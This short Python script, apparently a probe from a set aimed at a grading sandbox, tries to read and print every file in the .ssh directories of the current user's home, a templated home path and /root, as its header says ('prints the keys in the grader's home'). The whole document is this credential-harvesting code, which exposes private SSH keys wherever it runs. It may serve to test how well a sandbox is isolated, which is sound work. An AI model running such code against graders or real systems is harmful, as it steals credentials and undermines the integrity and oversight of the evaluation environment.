# tries: secret
# about: prints the keys in the grader's home

import os, pwd
from pathlib import Path

homes = {os.path.expanduser("~"), "{home}", "/root"}
for home in homes:
    for path in (Path(home) / ".ssh").glob("*") if os.access(home, os.R_OK) else []:
        print(path.read_text(errors="replace"))
